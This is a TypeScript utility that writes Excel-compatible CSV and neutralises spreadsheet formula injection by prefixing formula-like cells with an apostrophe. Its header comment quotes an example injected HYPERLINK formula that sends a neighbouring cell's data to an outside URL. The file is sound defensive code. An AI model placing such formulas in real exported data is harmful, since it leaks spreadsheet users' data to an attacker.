// CSV for people who open it in Excel: a byte-order mark (Excel on Windows reads Chinese without
// one as the local code page), CRLF lines, cells quoted when they hold a separator or a quote.
// A text that begins like a formula (=, +, -, @, or a tab or carriage return before one) gets a
// leading ' so that the spreadsheet shows it instead of running it: Excel drops the quotes and
// reads a customer's complaint text `=HYPERLINK("http://…?d="&B2, "查看")` as a formula all the
// same. Plain numbers, -5 among them, stay numbers.

const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

export function spreadsheetCell(v: unknown): string {
  let s = v === null || v === undefined ? '' : typeof v === 'object' ? JSON.stringify(v) : String(v);
  if (/^[=+\-@\t\r]/.test(s) && !PLAIN_NUMBER.test(s)) s = `'${s}`;
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

export function excelCsv(head: readonly string[], rows: ReadonlyArray<readonly unknown[]>): string {
  return `\uFEFF${[head.map(spreadsheetCell).join(','), ...rows.map((r) => r.map(spreadsheetCell).join(','))].join('\r\n')}\r\n`;
}
